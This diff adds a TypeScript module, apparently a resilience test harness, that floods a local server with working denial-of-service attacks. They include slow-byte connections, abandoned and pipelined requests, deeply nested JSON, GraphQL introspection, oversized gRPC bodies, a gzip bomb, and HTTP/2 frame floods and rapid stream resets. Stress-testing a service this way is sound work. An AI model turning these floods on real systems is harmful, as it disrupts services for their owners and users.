@@ -1,0 +1,185 @@
+// The floods that one address can make, each until it is told to stop. What is cut off begins anew at once.
+import { request, type RequestOptions } from 'node:http'
+import { connect, type Socket } from 'node:net'
+import { gzipSync } from 'node:zlib'
+
+/** Whom it is for, and where it comes from: an address of this machine that nobody else uses. */
+export interface Aim {
+  readonly port: number
+  readonly from: string
+}
+
+/** Begins; gives what ends it. */
+export type Attack = (aim: Aim) => () => void
+
+const HOST = 'Host: localhost\r\n'
+const AGAIN_MS = 5
+
+/** Many connections at once, each opened again when it ends. */
+function connections(count: number, each: (socket: Socket) => void): Attack {
+  return ({ port, from }) => {
+    const open = new Set<Socket>()
+    let going = true
+    const begin = (): void => {
+      if (!going) return
+      const socket = connect({ host: '127.0.0.1', port, localAddress: from, noDelay: true })
+      open.add(socket)
+      socket.on('error', () => undefined)
+      socket.on('data', () => undefined)
+      socket.once('connect', () => each(socket))
+      socket.once('close', () => {
+        open.delete(socket)
+        setTimeout(begin, AGAIN_MS).unref()
+      })
+    }
+    for (let left = count; left > 0; left--) begin()
+    return () => {
+      going = false
+      for (const socket of open) socket.destroy()
+    }
+  }
+}
+
+/** Writes again and again, as fast as the other side reads, but no faster than the timer. */
+function pour(socket: Socket, bytes: string | Buffer, everyMs: number): void {
+  const timer = setInterval(() => {
+    if (!socket.writableNeedDrain) socket.write(bytes)
+  }, everyMs)
+  socket.once('close', () => clearInterval(timer))
+}
+
+interface Sent extends Pick<RequestOptions, 'method' | 'path' | 'headers'> {
+  readonly body?: string | Buffer
+  /** The client does not wait for the answer. */
+  readonly leaves?: boolean
+}
+
+/** Requests, so many at once, each of them after the answer to the one before. */
+function requests(count: number, make: () => Sent): Attack {
+  return ({ port, from }) => {
+    let going = true
+    const next = (): void => {
+      if (!going) return
+      const { body, leaves = false, ...options } = make()
+      const sent = request({ host: '127.0.0.1', port, localAddress: from, agent: false, ...options })
+      sent.on('response', (response) => response.resume())
+      sent.on('error', () => undefined)
+      sent.once('close', () => setTimeout(next, AGAIN_MS).unref())
+      sent.end(body)
+      if (leaves) sent.once('finish', () => sent.destroy())
+    }
+    for (let left = count; left > 0; left--) next()
+    return () => (going = false)
+  }
+}
+
+const JSON_TYPE = { 'content-type': 'application/json' }
+const LIST_GROUPS = '/chainguard.platform.iam.v2.GroupsService/ListGroups'
+
+/** Three parts that look like a token, of two thousand characters. */
+function strangeToken(): string {
+  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url')
+  const claims = { iss: `https://${Math.random()}.example.com`, sub: 'a'.repeat(1_200), aud: 'a', iat: 1, exp: 4e9 }
+  return `${part({ alg: 'ES256' })}.${part(claims)}.${'A'.repeat(86)}`
+}
+
+function frame(type: number, payload: Buffer, { flags = 0, stream = 0 } = {}): Buffer {
+  const head = Buffer.alloc(9)
+  head.writeUIntBE(payload.length, 0, 3)
+  head.writeUInt8(type, 3)
+  head.writeUInt8(flags, 4)
+  head.writeUInt32BE(stream, 5)
+  return Buffer.concat([head, payload])
+}
+
+const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, Buffer.alloc(0))])
+/** POST https / with an authority, by the tables of HPACK. */
+const POST = Buffer.from([0x83, 0x86, 0x84, 0x41, 0x01, 0x78])
+
+/** The same frame by the thousand. */
+function frames(one: Buffer, before: readonly Buffer[] = []): Attack {
+  const many = Buffer.concat(Array.from({ length: 1_000 }, () => one))
+  return connections(10, (socket) => {
+    socket.write(Buffer.concat([PREFACE, ...before]))
+    pour(socket, many, 5)
+  })
+}
+
+/** Streams that are opened, and reset at once where `resets`. */
+function streams(resets: boolean): Attack {
+  return connections(10, (socket) => {
+    socket.write(PREFACE)
+    let stream = -1
+    const timer = setInterval(() => {
+      if (socket.writableNeedDrain) return
+      for (let left = 100; left > 0; left--) {
+        stream += 2
+        socket.write(frame(1, POST, { flags: 4, stream }))
+        if (resets) socket.write(frame(3, Buffer.from([0, 0, 0, 8]), { stream }))
+      }
+    }, 5)
+    socket.once('close', () => clearInterval(timer))
+  })
+}
+
+/** A message of gRPC whose prefix tells of five megabytes. */
+const LONG_MESSAGE = Buffer.concat([Buffer.from([0, 0, 0x50, 0, 0]), Buffer.alloc(64 * 1024)])
+const INTROSPECTION = `{ ${Array.from({ length: 25 }, (_, n) => `a${n}: __schema { types { name fields { name type { name } } } }`).join(' ')} }`
+
+export const attacks: Readonly<Record<string, Attack>> = {
+  'connections that say nothing': connections(400, () => undefined),
+  'heads by the byte': connections(200, (socket) => {
+    socket.write('GET / HTTP/1.1\r\n')
+    pour(socket, 'x', 200)
+  }),
+  'bodies by the byte': connections(200, (socket) => {
+    socket.write(`POST /graphql HTTP/1.1\r\n${HOST}Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n`)
+    pour(socket, ' ', 200)
+  }),
+  'requests sent ahead': connections(20, (socket) => {
+    pour(socket, `GET /iam/v2/groups HTTP/1.1\r\n${HOST}\r\n`.repeat(100), 5)
+  }),
+  'requests that nobody waits for': requests(64, () => ({ path: '/iam/v2/groups', leaves: true })),
+  'tokens of strange issuers': requests(64, () => ({
+    path: '/iam/v2/groups',
+    headers: { authorization: `Bearer ${strangeToken()}` },
+  })),
+  introspection: requests(32, () => ({
+    method: 'POST',
+    path: '/graphql',
+    headers: JSON_TYPE,
+    body: JSON.stringify({ query: INTROSPECTION }),
+  })),
+  'nested JSON': requests(32, () => ({
+    method: 'POST',
+    path: '/graphql',
+    headers: JSON_TYPE,
+    body: `{"query":"{__typename}","variables":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}`,
+  })),
+  'bodies that are too long': requests(16, () => ({
+    method: 'POST',
+    path: '/oauth/token',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: Buffer.alloc(4 * 1024 * 1024, 'a'),
+  })),
+  'messages that are too long': requests(16, () => ({
+    method: 'POST',
+    path: LIST_GROUPS,
+    headers: { 'content-type': 'application/grpc' },
+    body: LONG_MESSAGE,
+  })),
+  'bombs of gzip': requests(16, () => ({
+    method: 'POST',
+    path: LIST_GROUPS,
+    headers: { ...JSON_TYPE, 'content-encoding': 'gzip' },
+    body: BOMB,
+  })),
+  PING: frames(frame(6, Buffer.alloc(8))),
+  SETTINGS: frames(frame(4, Buffer.alloc(0))),
+  WINDOW_UPDATE: frames(frame(8, Buffer.from([0, 0, 0, 1]))),
+  'DATA by the byte': frames(frame(0, Buffer.from('x'), { stream: 1 }), [frame(1, POST, { flags: 4, stream: 1 })]),
+  'streams that stay open': streams(false),
+  'streams that are reset': streams(true),
+}
+
+const BOMB = gzipSync(Buffer.alloc(16 * 1024 * 1024))
